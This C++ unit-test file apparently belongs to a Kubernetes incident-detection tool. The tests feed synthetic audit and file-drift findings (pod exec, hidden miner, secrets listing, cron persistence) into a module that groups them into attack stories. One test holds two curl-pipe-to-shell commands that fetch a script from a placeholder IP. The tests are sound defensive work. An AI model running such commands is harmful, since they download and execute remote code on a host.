// SPDX-License-Identifier: Apache-2.0
#include "detect/story/story.h"

#include <fmt/format.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>

#include "base/limits.h"
#include "detect/story/indicators.h"
#include "detect/story/tactics.h"

namespace ekshume::detect::story {
namespace {

using testing::Contains;
using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;
using testing::SizeIs;

constexpr int64_t kStart = 1'800'000'000;
constexpr int64_t kHour = 3600;

// Findings and the events behind them, made one by one.
class StoryTest : public testing::Test {
 protected:
  EventFacts& Event(Finding& finding) {
    const std::string id = fmt::format("event-{}", ++count_);
    finding.events.push_back(id);
    EventFacts& event = facts_.events[id];
    event.id = id;
    event.time = finding.first;
    return event;
  }

  Finding& Add(const std::string& title, const std::string& level, int64_t at) {
    Finding finding;
    finding.id = fmt::format("{:032x}", ++count_);
    finding.detector = "sigma";
    finding.rule = title;
    finding.title = title;
    finding.level = level;
    finding.first = finding.last = Timestamp{kStart + at, 0};
    finding.count = 1;
    findings_.push_back(finding);
    return findings_.back();
  }

  // An act that the audit log tells of.
  Finding& Act(const std::string& title, const std::string& level, int64_t at,
               const std::string& user, const std::string& action, const std::string& kind,
               const std::string& pod = "", const std::string& outcome = "success") {
    Finding& finding = Add(title, level, at);
    finding.actor = user;
    if (!pod.empty()) {
      finding.name_space = "shop";
      finding.pod = pod;
    }
    EventFacts& event = Event(finding);
    event.source = "k8s_audit";
    (user.starts_with("arn:") ? event.user_arn : event.user_name) = user;
    event.action = action;
    event.object_kind = kind;
    event.object_name = pod;
    event.name_space = pod.empty() ? "" : "shop";
    event.pod = pod;
    event.outcome = outcome;
    event.source_ip = "127.0.0.1";
    event.message = user + " did " + action + " " + kind;
    return finding;
  }

  // A file that appeared in a pod's container.
  Finding& File(const std::string& title, const std::string& level, int64_t at,
                const std::string& pod, const std::string& path) {
    Finding& finding = Add(title, level, at);
    finding.detector = "drift";
    finding.node = "node-1";
    finding.path = path;
    if (!pod.empty()) {
      finding.name_space = "shop";
      finding.pod = pod;
      finding.container_id = "c-" + pod;
    }
    return finding;
  }

  void Pod(const std::string& name, const std::string& account,
           const std::vector<std::string>& host_access = {}) {
    PodFacts pod;
    pod.name_space = "shop";
    pod.name = name;
    pod.node = "node-1";
    pod.service_account = account;
    pod.host_access = host_access;
    facts_.pods.push_back(pod);
  }

  Story Tell() const { return story::Tell(findings_, facts_); }

  static std::vector<std::string> ActorsOf(const Incident& incident) {
    std::vector<std::string> names;
    for (const Actor& actor : incident.actors) names.push_back(actor.name);
    return names;
  }
  static std::vector<std::string> PlacesOf(const Incident& incident) {
    std::vector<std::string> names;
    for (const Place& place : incident.places) names.push_back(place.kind + " " + place.name);
    return names;
  }

  std::vector<Finding> findings_;
  Facts facts_;
  int count_ = 0;
};

TEST_F(StoryTest, JoinsAnExecWithWhatAppearsInThePodAndNothingElse) {
  Act("Shell opened in a pod", "medium", 0, "mallory", "create", "pods/exec", "webshop");
  File("Hidden program", "high", 3, "webshop", "/tmp/.x/miner");
  const Story story = Tell();
  ASSERT_THAT(story.incidents, SizeIs(1));
  const Incident& incident = story.incidents.front();
  EXPECT_THAT(incident.findings, SizeIs(2));
  EXPECT_THAT(ActorsOf(incident), ElementsAre("mallory"));
  EXPECT_THAT(PlacesOf(incident), Contains("pod webshop"));
  EXPECT_EQ("compromised", incident.verdict);
  EXPECT_EQ("compromised", story.verdict);
  ASSERT_THAT(incident.acts, SizeIs(2));
  EXPECT_EQ("mallory", incident.acts[0].actor);
  EXPECT_THAT(incident.acts[1].paths, ElementsAre("/tmp/.x/miner"));
  EXPECT_THAT(incident.summary, HasSubstr("ran commands in pod shop/webshop"));
}

TEST_F(StoryTest, KeepsAFileOfLongBeforeApartFromTheExec) {
  File("Hidden program", "high", 0, "webshop", "/tmp/.x/miner");
  Act("Shell opened in a pod", "medium", 10 * kHour, "developer", "create", "pods/exec", "webshop");
  const Story story = Tell();
  ASSERT_THAT(story.incidents, SizeIs(2));
  EXPECT_THAT(ActorsOf(story.incidents[0]), IsEmpty());
  EXPECT_THAT(ActorsOf(story.incidents[1]), ElementsAre("developer"));
}

TEST_F(StoryTest, FollowsAllNamesOfAnActor) {
  facts_.actors.push_back({{"access_key_id", "AKIAEXAMPLE"},
                           {"user_arn", "arn:aws:iam::123456789012:user/ci"},
                           {"user_name", "ci"}});
  facts_.first_seen["AKIAEXAMPLE"] = {kStart - 5, 0};
  Finding& in_aws = Add("Identity asked", "medium", 0);
  EventFacts& event = Event(in_aws);
  event.source = "cloudtrail";
  event.access_key_id = "AKIAEXAMPLE";
  event.source_ip = "203.0.113.7";
  Act("Secrets listed", "high", 60, "arn:aws:iam::123456789012:user/ci", "list", "secrets");
  Act("Pods listed", "medium", 90, "ci", "list", "pods");
  const Story story = Tell();
  ASSERT_THAT(story.incidents, SizeIs(1));
  const Incident& incident = story.incidents.front();
  EXPECT_THAT(incident.findings, SizeIs(3));
  ASSERT_THAT(incident.actors, SizeIs(1));
  EXPECT_THAT(incident.actors[0].names, SizeIs(3));
  EXPECT_THAT(incident.title, HasSubstr("AKIAEXAMPLE of ci"));
  EXPECT_THAT(incident.entry, HasSubstr("AKIAEXAMPLE of ci is first seen"));
  ASSERT_THAT(incident.secrets, SizeIs(1));
  EXPECT_EQ("all of the cluster", incident.secrets[0].name);
}

TEST_F(StoryTest, KeepsTwoActorsInOneClusterNodeAndNamespaceApart) {
  for (const char* who : {"mallory", "eve"}) {
    Finding& finding = Act("Secrets listed", "high", 0, who, "list", "secrets");
    finding.cluster = "prod";
    finding.node = "node-1";
    finding.name_space = "kube-system";
  }
  const Story story = Tell();
  ASSERT_THAT(story.incidents, SizeIs(2));
  EXPECT_THAT(ActorsOf(story.incidents[0]), SizeIs(1));
  EXPECT_NE(ActorsOf(story.incidents[0]), ActorsOf(story.incidents[1]));
}

TEST_F(StoryTest, KeepsActsOfOneActorApartThatAreDaysApart) {
  Act("Secrets listed", "high", 0, "mallory", "list", "secrets");
  Act("Secrets listed", "high", 72 * kHour, "mallory", "list", "secrets");
  EXPECT_THAT(Tell().incidents, SizeIs(2));
}

TEST_F(StoryTest, DoesNotAccuseAnAdministrator) {
  Act("Namespace created", "informational", 0, "admin", "create", "namespaces");
  Act("Pods listed", "low", 5, "admin", "list", "pods");
  Act("Shell opened in a pod", "medium", 10, "mallory", "create", "pods/exec", "webshop");
  Act("Pod created", "low", 4, "admin", "create", "pods", "webshop");
  File("Hidden program", "high", 12, "webshop", "/tmp/.x/miner");
  const Story story = Tell();
  ASSERT_THAT(story.incidents, SizeIs(1));
  EXPECT_THAT(ActorsOf(story.incidents[0]), ElementsAre("mallory"));
  EXPECT_THAT(story.to_confirm, IsEmpty());
}

TEST_F(StoryTest, AsksWhatAdministratorsMayHaveMeant) {
  Act("cluster-admin given away", "high", 0, "admin", "create", "clusterrolebindings");
  const Story story = Tell();
  EXPECT_THAT(story.incidents, IsEmpty());
  ASSERT_THAT(story.to_confirm, SizeIs(1));
  EXPECT_EQ("admin", story.to_confirm[0].who);
  EXPECT_EQ("suspicious", story.verdict);
}

TEST_F(StoryTest, TakesAdministrationOfAnIntruderForHis) {
  Act("Secrets listed", "high", 0, "mallory", "list", "secrets");
  Act("cluster-admin given away", "high", 5, "mallory", "create", "clusterrolebindings");
  const Story story = Tell();
  ASSERT_THAT(story.incidents, SizeIs(1));
  EXPECT_THAT(story.incidents[0].findings, SizeIs(2));
  EXPECT_THAT(story.to_confirm, IsEmpty());
}

TEST_F(StoryTest, NothingFoundIsSaidToProveNothing) {
  Act("Pods listed", "low", 0, "admin", "list", "pods");
  const Story story = Tell();
  EXPECT_THAT(story.incidents, IsEmpty());
  EXPECT_EQ("nothing found", story.verdict);
  EXPECT_THAT(story.summary, HasSubstr("proves nothing"));
}

TEST_F(StoryTest, FollowsAPodWithHostAccessToItsNode) {
  Pod("helper", "", {"host mount /"});
  Pod("other", "", {"privileged"});
  Act("Sensitive directory mounted", "high", 0, "mallory", "create", "pods", "helper");
  File("Authorized key added", "high", 20, "", "/root/.ssh/authorized_keys");
  const Story story = Tell();
  ASSERT_THAT(story.incidents, SizeIs(1));
  const Incident& incident = story.incidents[0];
  EXPECT_THAT(PlacesOf(incident), ElementsAre("pod helper", "node node-1"));
  EXPECT_THAT(incident.summary, HasSubstr("which can reach its host (host mount /)"));
  EXPECT_THAT(incident.summary, HasSubstr("changed node node-1: /root/.ssh/authorized_keys"));
}

TEST_F(StoryTest, NamesTheNodeThatCommandsInAPodCouldReach) {
  Pod("helper", "", {"host mount /"});
  Act("Shell opened in a pod", "high", 0, "mallory", "create", "pods/exec", "helper");
  const Story story = Tell();
  ASSERT_THAT(story.incidents, SizeIs(1));
  EXPECT_THAT(story.incidents[0].title, HasSubstr("node node-1"));
  EXPECT_THAT(story.incidents[0].summary, HasSubstr("had node node-1 within reach"));
}

TEST_F(StoryTest, DoesNotJoinAHostWithAPodThatCannotReachIt) {
  Pod("webshop", "");
  Act("Shell opened in a pod", "medium", 0, "mallory", "create", "pods/exec", "webshop");
  File("Authorized key added", "high", 20, "", "/root/.ssh/authorized_keys");
  EXPECT_THAT(Tell().incidents, SizeIs(2));
}

TEST_F(StoryTest, NamesTheLikelyWayToAHostWhenNoActExplainsIt) {
  ContainerFacts container;
  container.id = "debug-id";
  container.name = "debug";
  container.name_space = "default";
  container.pod = "debug-toolbox";
  container.node = "node-1";
  container.host_access = {"host mount /"};
  facts_.containers.push_back(container);
  File("Hidden program", "high", 0, "webshop", "/tmp/.x/miner");
  File("Cron written", "high", 30, "", "/etc/cron.d/x");
  const Story story = Tell();
  ASSERT_THAT(story.incidents, SizeIs(1));
  const Incident& incident = story.incidents[0];
  const auto way =
      std::ranges::find_if(incident.places, [](const Place& place) { return place.likely_way; });
  ASSERT_NE(way, incident.places.end());
  EXPECT_EQ("default/debug-toolbox", way->pod);
  EXPECT_THAT(incident.reasons, Contains(HasSubstr("joined by nothing but the node")));
}

TEST_F(StoryTest, FollowsTheTokenOfAPodThatWasEntered) {
  Pod("webshop", "webshop");
  Act("Token read through exec", "high", 0, "mallory", "create", "pods/exec", "webshop");
  Act("Token used by hand", "high", 60, "system:serviceaccount:shop:webshop", "list", "secrets");
  Act("Token used by hand", "high", 60, "system:serviceaccount:shop:other", "list", "secrets");
  const Story story = Tell();
  ASSERT_THAT(story.incidents, SizeIs(2));
  EXPECT_THAT(ActorsOf(story.incidents[0]), ElementsAre("mallory", "shop/webshop"));
  EXPECT_THAT(ActorsOf(story.incidents[1]), ElementsAre("shop/other"));
}

TEST_F(StoryTest, TakesWhatWasRefusedShortlyBeforeForTheBeginning) {
  Act("Anonymous request refused", "low", -120, "system:anonymous", "list", "secrets", "",
      "failure");
  Act("Anonymous request refused", "low", -24 * kHour, "system:anonymous", "get", "url", "",
      "failure");
  Act("Secrets listed", "high", 0, "mallory", "list", "secrets");
  const Story story = Tell();
  ASSERT_THAT(story.incidents, SizeIs(1));
  const Incident& incident = story.incidents[0];
  EXPECT_THAT(incident.findings, SizeIs(2));
  ASSERT_THAT(incident.actors, SizeIs(2));
  EXPECT_EQ("tried", incident.actors[0].role);
  EXPECT_EQ("acted", incident.actors[1].role);
  EXPECT_THAT(incident.entry, HasSubstr("system:anonymous tried and was refused"));
}

TEST_F(StoryTest, JoinsGuardDutyWithOurOwnFindingOfTheSamePod) {
  Act("Shell opened in a pod", "medium", 0, "mallory", "create", "pods/exec", "webshop");
  Finding& finding = Add("Execution:Runtime/NewBinaryExecuted", "medium", 30);
  finding.name_space = "shop";
  finding.pod = "webshop";
  EventFacts& event = Event(finding);
  event.source = "guardduty";
  event.process = "/tmp/x";
  event.user_name = "root";
  event.message = "A new binary was executed";
  const Story story = Tell();
  ASSERT_THAT(story.incidents, SizeIs(1));
  EXPECT_THAT(ActorsOf(story.incidents[0]), ElementsAre("mallory"));
  EXPECT_THAT(story.incidents[0].reasons, Contains(HasSubstr("GuardDuty")));
}

TEST_F(StoryTest, JoinsByAnAddressThatFewUse) {
  for (const char* who : {"mallory", "eve"}) {
    Act("Secrets listed", "high", 0, who, "list", "secrets");
    facts_.events[findings_.back().events[0]].source_ip = "203.0.113.7";
  }
  EXPECT_THAT(Tell().incidents, SizeIs(1));
  facts_.users_of_address["203.0.113.7"] = 40;
  EXPECT_THAT(Tell().incidents, SizeIs(2)) << "a way out that many share";
}

TEST_F(StoryTest, JoinsByAServerThatCommandsName) {
  Finding& one = Act("Download", "high", 0, "mallory", "create", "cronjobs");
  facts_.events[one.events[0]].command_line = "sh -c 'curl http://198.51.100.23/b.sh|sh'";
  Finding& other = File("Cron written", "high", 50, "", "/etc/cron.d/x");
  EventFacts& event = Event(other);
  event.source = "cron";
  event.command_line = "curl -fsSL http://198.51.100.23/b.sh | bash";
  EXPECT_THAT(Tell().incidents, SizeIs(1));
}

TEST_F(StoryTest, NeverJoinsThroughAControllerOrAnonymousRequests) {
  for (const char* pod : {"one", "two"}) {
    Act("Privileged pod", "high", 0, "system:serviceaccount:kube-system:replicaset-controller",
        "create", "pods", pod);
    Act("Anonymous request allowed", "high", 0, "system:anonymous", "get", "pods", pod);
  }
  const Story story = Tell();
  EXPECT_THAT(story.incidents, SizeIs(4));
  for (const Incident& incident : story.incidents) {
    EXPECT_THAT(ActorsOf(incident), Not(Contains(HasSubstr("replicaset-controller"))));
  }
}

TEST_F(StoryTest, TellsTacticsInOrderOfTimeAndStepsInForensicOrder) {
  Act("Pod entered", "high", 10, "mallory", "create", "pods/exec", "webshop").tags = {
      "attack.execution", "attack.t1609"};
  Act("Secrets listed", "high", 0, "mallory", "list", "secrets").tags = {"attack.credential_access",
                                                                         "attack.t1552.007"};
  Act("CronJob created", "high", 20, "mallory", "create", "cronjobs").tags = {"attack.persistence",
                                                                              "attack.t1053.007"};
  const Story story = Tell();
  ASSERT_THAT(story.incidents, SizeIs(1));
  const Incident& incident = story.incidents[0];
  std::vector<std::string> tactics;
  for (const Tactic& tactic : incident.tactics) tactics.push_back(tactic.id + " " + tactic.name);
  EXPECT_THAT(tactics,
              ElementsAre("TA0006 credential-access", "TA0002 execution", "TA0003 persistence"));
  EXPECT_THAT(incident.tactics[0].techniques, ElementsAre("T1552.007"));
  ASSERT_THAT(incident.persistence, SizeIs(1));
  EXPECT_EQ("cronjob", incident.persistence[0].kind);
  const std::vector<std::string> order = {"preserve", "acquire", "contain", "eradicate", "recover"};
  size_t at = 0;
  for (const Step& step : incident.steps) {
    const auto phase = static_cast<size_t>(std::ranges::find(order, step.phase) - order.begin());
    ASSERT_LT(phase, order.size());
    EXPECT_GE(phase, at) << step.action;
    at = phase;
  }
  EXPECT_EQ(order.size() - 1, at);
}

TEST_F(StoryTest, GraphConnectsWhoActedWithWhatIsAffected) {
  Pod("helper", "", {"host mount /"});
  Act("Pod entered", "high", 0, "mallory", "create", "pods/exec", "helper");
  File("Cron written", "high", 5, "", "/etc/cron.d/x");
  const Story story = Tell();
  ASSERT_THAT(story.incidents, SizeIs(1));
  std::vector<std::string> edges;
  for (const GraphEdge& edge : story.incidents[0].graph.edges) {
    edges.push_back(edge.from + " " + edge.verb + " " + edge.to);
  }
  EXPECT_THAT(edges, Contains("actor:mallory exec pod:shop/helper"));
  EXPECT_THAT(edges, Contains("pod:shop/helper can reach node:node-1"));
  EXPECT_THAT(edges, Contains("node:node-1 holds file:node:node-1:/etc/cron.d/x"));
}

TEST_F(StoryTest, GivesTheSameIdsInWhateverOrderFindingsCome) {
  for (int i = 0; i < 6; ++i) {
    Act("Secrets listed", "high", i, fmt::format("mallory{}", i % 2), "list", "secrets");
  }
  const Story one = Tell();
  std::ranges::reverse(findings_);
  const Story other = Tell();
  ASSERT_THAT(one.incidents, SizeIs(2));
  ASSERT_THAT(other.incidents, SizeIs(2));
  EXPECT_EQ(one.incidents[0].id, other.incidents[0].id);
  EXPECT_EQ(one.incidents[1].id, other.incidents[1].id);
  EXPECT_EQ(one.incidents[0].summary, other.incidents[0].summary);
}

TEST_F(StoryTest, StopsAtMaxIncidents) {
  for (size_t i = 0; i < limits::kMaxIncidents + 3; ++i) {
    Act("Secrets listed", "high", 0, fmt::format("mallory{}", i), "list", "secrets");
    Act("cluster-admin given away", "high", 0, fmt::format("admin{}", i), "create",
        "clusterrolebindings");
  }
  const Story story = Tell();
  EXPECT_EQ(limits::kMaxIncidents, story.incidents.size());
  EXPECT_EQ(3U, story.incidents_left_out);
  EXPECT_EQ(limits::kMaxIncidents, story.to_confirm.size());
  EXPECT_EQ(3U, story.to_confirm_left_out);
}

TEST_F(StoryTest, StopsAtMaxGraphNodesAndMaxActs) {
  for (size_t i = 0; i < std::max(limits::kMaxGraphNodes, limits::kMaxActs) + 5; ++i) {
    File("Hidden program", "high", static_cast<int64_t>(i), "webshop", fmt::format("/tmp/.{}", i));
  }
  const Story story = Tell();
  ASSERT_THAT(story.incidents, SizeIs(1));
  const Incident& incident = story.incidents[0];
  EXPECT_EQ(limits::kMaxGraphNodes, incident.graph.nodes.size());
  EXPECT_GT(incident.graph.left_out, 0U);
  EXPECT_EQ(limits::kMaxActs, incident.acts.size());
  EXPECT_EQ(findings_.size() - limits::kMaxActs, incident.acts_left_out);
}

TEST_F(StoryTest, AFileThatSeveralChecksFindIsOneAct) {
  File("Hidden program", "high", 0, "webshop", "/tmp/.x/miner");
  File("Miner", "critical", 0, "webshop", "/tmp/.x/miner").detector = "yara";
  const Story story = Tell();
  ASSERT_THAT(story.incidents, SizeIs(1));
  ASSERT_THAT(story.incidents[0].acts, SizeIs(1));
  EXPECT_EQ("critical", story.incidents[0].acts[0].level);
  EXPECT_THAT(story.incidents[0].acts[0].findings, SizeIs(2));
}

TEST_F(StoryTest, AnActNamesAsManyEventsAndFindingsAsTheLimitsSay) {
  for (size_t i = 0; i < limits::kMaxActFindings + 5; ++i) {
    File(fmt::format("Check {}", i), "high", 0, "webshop", "/tmp/.x/miner");
  }
  Finding& exec =
      Act("Shell opened in a pod", "high", 3, "mallory", "create", "pods/exec", "webshop");
  for (size_t i = 0; i < limits::kMaxActEvents + 5; ++i) {
    EventFacts again = facts_.events.at(exec.events.front());
    EventFacts& event = Event(exec);
    again.id = event.id;
    event = again;
  }
  const Story story = Tell();
  ASSERT_THAT(story.incidents, SizeIs(1));
  const auto& acts = story.incidents[0].acts;
  ASSERT_THAT(acts, SizeIs(2));
  EXPECT_THAT(acts[0].findings, SizeIs(limits::kMaxActFindings));
  EXPECT_THAT(acts[1].events, SizeIs(limits::kMaxActEvents));
  EXPECT_EQ(limits::kMaxActEvents + 6, acts[1].count);
}

TEST(StoryWords, TacticsAndTechniquesOfTags) {
  const std::vector<std::string> tags = {"attack.persistence", "attack.privilege_escalation",
                                         "attack.T1098.006", "attack.t1098.006", "cve.2024.1"};
  EXPECT_THAT(TacticsOf(tags), ElementsAre("persistence", "privilege-escalation"));
  EXPECT_THAT(TechniquesOf(tags), ElementsAre("T1098.006"));
}

TEST(StoryWords, PublicAddresses) {
  for (const char* text : {"203.0.113.7", "8.8.8.8", "2001:db8::1"}) {
    EXPECT_TRUE(IsPublicAddress(text)) << text;
  }
  for (const char* text :
       {"10.0.0.1", "127.0.0.1", "169.254.169.254", "172.20.0.1", "192.168.1.1", "100.64.0.1",
        "::1", "fe80::1", "fd00::1", "", "eks.amazonaws.com", "1.2.3", "1.2.3.4.5", "256.1.1.1"}) {
    EXPECT_FALSE(IsPublicAddress(text)) << text;
  }
}

}  // namespace
}  // namespace ekshume::detect::story
